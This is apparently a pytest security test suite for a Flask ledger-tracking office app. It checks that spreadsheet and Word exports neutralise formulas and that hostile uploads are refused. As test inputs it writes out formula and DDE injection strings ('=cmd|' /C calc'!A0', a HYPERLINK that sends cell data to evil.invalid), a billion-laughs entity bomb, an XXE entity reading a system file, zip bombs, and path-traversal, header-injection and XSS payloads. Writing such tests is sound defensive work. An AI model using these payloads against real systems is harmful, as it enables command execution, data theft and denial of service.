"""Tables that somebody else wrote: nothing in them runs or swells, and each is answered in words."""

import io
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from docx import Document
from flask.testing import FlaskClient
from sqlalchemy import func, select

from tests import ledger
from tests.exchange.tables import ADDRESS, AT, FIRST_ROW, converted, exported
from tests.forms import token
from tests.ledger import TODAY
from tests.office import Member, Office
from tracker.audit.models import AuditRow
from tracker.database import writing
from tracker.documents.models import Secrecy
from tracker.documents.returned_sheet import read_returned
from tracker.documents.sheet import Sheet, UnreadableSheetError, write_sheet
from tracker.exchange.ledger_plan import MOST_ROWS
from tracker.exchange.models import LedgerImport
from tracker.extensions import db
from tracker.tasks import marking

SignIn = Callable[[Member], FlaskClient]
SAMPLES = Path(__file__).parents[1] / "samples"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATIONS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006"


@pytest.fixture(autouse=True)
def at_today(moved_clock: Callable[..., None]) -> None:
    """The office stands on TODAY."""
    moved_clock(TODAY)


# what somebody types into a task so that a spreadsheet, not the office, does something
RUN = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?"&A1,"点这里")',
    '=IMPORTXML("http://evil.invalid","//a")',
    'DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "'=1+1",
    "http://evil.invalid/x",
    "file:///etc/passwd",
    "mailto:a@evil.invalid",
    "_x003D_1+1",
    "<b>粗</b>&amp;",
    "\u202e反过来",
    "nul\x00在内",
)


def parts_of(content: bytes) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            yield name, archive.read(name).decode()


def test_no_spreadsheet_runs_what_was_typed_into_a_task(
    office: Office, signed_in: SignIn, tmp_path: Path
) -> None:
    with writing():
        for title in RUN:
            ledger.drafted(office, title, measure=title)
    content = exported(signed_in(office.clerk))
    for name, text in parts_of(content):
        assert not re.search(r"<f[ >/]|<hyperlink|ddeLink|oleLink|externalReference", text), name
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    shown = [sheet.cell(row, AT["problem"]) for row in range(FIRST_ROW, FIRST_ROW + len(RUN))]
    assert {cell.data_type for cell in shown} == {"s"}
    begun = [cell for cell in shown if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert len(begun) >= 7
    assert all(cell.quotePrefix for cell in begun)
    there = converted(content, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path).decode()
    assert "=cmd|' /C calc'!A0" in there  # as text, not its result
    assert "#NAME?" not in there
    assert "\n2," not in there.split("编号", 1)[1].replace("\n2,ZG", "")


def test_no_field_of_a_word_processor_runs_either(office: Office, signed_in: SignIn) -> None:
    with writing():
        for title in RUN:
            ledger.drafted(office, f"{title} \\* DDEAUTO c:\\\\windows\\\\calc.exe")
    content = exported(signed_in(office.clerk), "/tasks/ledger.docx")
    for name, text in parts_of(content):
        if name == "word/document.xml":
            assert not re.search(r"instrText|fldSimple|<w:object|hyperlink", text)
    table = Document(io.BytesIO(content)).tables[0]
    heads = [cell.text.replace("\n", "") for cell in table.rows[0].cells]
    assert heads[:4] == ["序号", "编号", "问题来源", "问题类别"]
    assert len(table.rows) == 1 + len(RUN)


def test_what_a_reader_may_not_see_does_not_go_out(office: Office, signed_in: SignIn) -> None:
    with writing():
        secret = ledger.assigned(office, "不外传的事项")
        ledger.assigned(office, "公开的事项", duty=office.safety_duty)
        marking.mark(secret, by=office.clerk.actor, secrecy=Secrecy.WORK_SECRET, reason="涉及未公开事项")
    seen = {}
    for member in (office.clerk, office.vice_head, office.safety_lead, office.other_clerk):
        rows = read_returned("x.xlsx", exported(signed_in(member)), most_rows=100).rows[FIRST_ROW - 1 :]
        seen[member.person.name] = {row[AT["problem"] - 1]: row[AT["remark"] - 1] for row in rows}
    assert seen == {
        office.clerk.person.name: {"不外传的事项": "〔工作秘密〕", "公开的事项": ""},
        office.vice_head.person.name: {"公开的事项": ""},
        office.safety_lead.person.name: {"公开的事项": ""},
        office.other_clerk.person.name: {},
    }
    db.session.rollback()
    traced = db.session.scalars(select(AuditRow.details).where(AuditRow.action == "ledger.export")).all()
    assert [row["rows"] for row in traced] == [2, 1, 1, 0]


# --- files that are no table of the ledger -----------------------------------------------------------


def workbook(sheet: str, **more: bytes) -> bytes:
    """Return a workbook written by hand, with the XML of its sheet as given."""
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="a" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {MAIN} {RELATIONS}><sheets><sheet name="s" sheetId="1" r:id="a"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="a" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        for name, raw in more.items():
            archive.writestr(name, raw)
    return content.getvalue()


def rows_of(count: int, filler: str = "") -> str:
    cells = "".join(
        f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>{number}{filler}</t></is></c></row>'
        for number in range(1, count + 1)
    )
    return f"<worksheet {MAIN}><sheetData>{cells}</sheetData></worksheet>"


EMPTY = f"<worksheet {MAIN}><sheetData/></worksheet>"
_ONE = '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row></sheetData>'
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f"<worksheet {MAIN}>{_ONE.format('&c;')}</worksheet>"
)
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
    f"<worksheet {MAIN}>{_ONE.format('&a;')}</worksheet>"
)


def of_lies(content: bytes) -> bytes:
    """Return an archive whose list says that its sheet unpacks to a hundred bytes."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        true = archive.getinfo("xl/worksheets/sheet1.xml").file_size
    return content.replace(true.to_bytes(4, "little"), (100).to_bytes(4, "little"))


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "不是 .xlsx"),
    "words": (lambda: "编号,具体问题".encode(), "不是 .xlsx"),
    "a page": (lambda: b"<html><script>alert(1)</script></html>", "不是 .xlsx"),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "不是 .xlsx"),
    "a document": (lambda: (SAMPLES / "township.docx").read_bytes(), "不是 .xlsx"),
    "macros": (lambda: workbook(EMPTY, **{"xl/vbaProject.bin": b"x"}), "含有宏"),
    "a bomb": (lambda: workbook("0" * 60_000_000), "解开后过大"),
    "a bomb beside": (lambda: workbook(EMPTY, **{"xl/media/a.png": b"0" * 60_000_000}), "解开后过大"),
    "a bomb that lies": (lambda: of_lies(workbook("0" * 60_000_000)), "已经停下"),
    "no sheet": (lambda: workbook("0" * 10), "已经停下"),
    "entities": (lambda: workbook(ENTITIES), "已经停下|没有找到表头"),
    "a file from outside": (lambda: workbook(OUTSIDE), "已经停下|没有找到表头"),
    "too many rows": (lambda: workbook(rows_of(MOST_ROWS + 20)), f"超过 {MOST_ROWS} 行"),
    "no header": (lambda: workbook(rows_of(3)), "没有找到表头"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_table_is_refused_in_words_and_at_once(
    office: Office, signed_in: SignIn, name: str
) -> None:
    make, words = HOSTILE[name]
    clerk, content = signed_in(office.clerk), make()
    page = clerk.get(ADDRESS)
    begun = time.process_time()
    for address in (ADDRESS, "/tasks/ledger/form"):
        sent = {"csrf_token": token(page.text), "file": (io.BytesIO(content), "台账.xlsx")}
        answer = clerk.post(address, data=sent)
        assert answer.status_code == 422, answer.text
        if address == ADDRESS:
            assert re.search(words, answer.text)
    assert time.process_time() - begun < 10  # of this process: the child has limits of its own
    assert db.session.scalar(select(func.count()).select_from(LedgerImport)) == 0


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.xlsx", "..\\台账.xlsx", "a%0d%0aSet-Cookie: x=1.xlsx", "台" * 300 + ".xlsx",
     "\u202exslx.exe", "<script>alert(1)</script>.xlsx", "CON.xlsx", "𠮷野.xlsx"],
)  # fmt: skip
def test_a_hostile_name_is_only_ever_shown(office: Office, signed_in: SignIn, name: str) -> None:
    clerk = signed_in(office.clerk)
    content = write_sheet(Sheet("台账", ("编号", "具体问题"), [("ZG-2025Q3-001", "没有的")]))
    sent = {"csrf_token": token(clerk.get(ADDRESS).text), "file": (io.BytesIO(content), name)}
    answer = clerk.post(ADDRESS, data=sent)
    assert answer.status_code == 302
    shown = clerk.get(answer.location)
    assert shown.status_code == 200
    assert "<script>alert" not in shown.text
    assert "Set-Cookie: x=1" not in str(shown.headers)
    left = clerk.get(f"{answer.location}/left.xlsx")
    assert left.status_code == 200
    left.close()


def test_what_a_cell_says_is_only_ever_shown_as_text(office: Office, signed_in: SignIn) -> None:
    with writing():
        ledger.assigned(office, "甲")
    clerk = signed_in(office.clerk)
    text = "<img src=x onerror=alert(1)>{{ 7*7 }}"
    content = write_sheet(Sheet("台账", ("编号", "整改措施", "乱<b>列"), [("ZG-2025Q3-001", text, "x")]))
    sent = {"csrf_token": token(clerk.get(ADDRESS).text), "file": (io.BytesIO(content), "台账.xlsx")}
    shown = clerk.get(clerk.post(ADDRESS, data=sent).location).text
    assert "&lt;img src=x onerror=alert(1)&gt;{{ 7*7 }}" in shown
    assert "乱&lt;b&gt;列" in shown


def test_rows_are_counted_before_a_table_is_read(tmp_path: Path) -> None:
    content = workbook(rows_of(100_000, "，整改措施" * 4))
    begun = time.monotonic()
    with pytest.raises(UnreadableSheetError, match="超过 20000 行"):
        read_returned("台账.xlsx", content, most_rows=20_000)
    assert time.monotonic() - begun < 30  # reading it whole takes a child out of its limits on a busy machine


def test_a_sheet_of_blank_rows_to_the_last_one_is_no_large_one() -> None:
    cells = '<row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c></row><row r="1048576" ht="12"/>'
    sheet: Any = read_returned(
        "x.xlsx", workbook(f"<worksheet {MAIN}><sheetData>{cells}</sheetData></worksheet>"), most_rows=10
    )
    assert sheet.rows == [["编号"]]
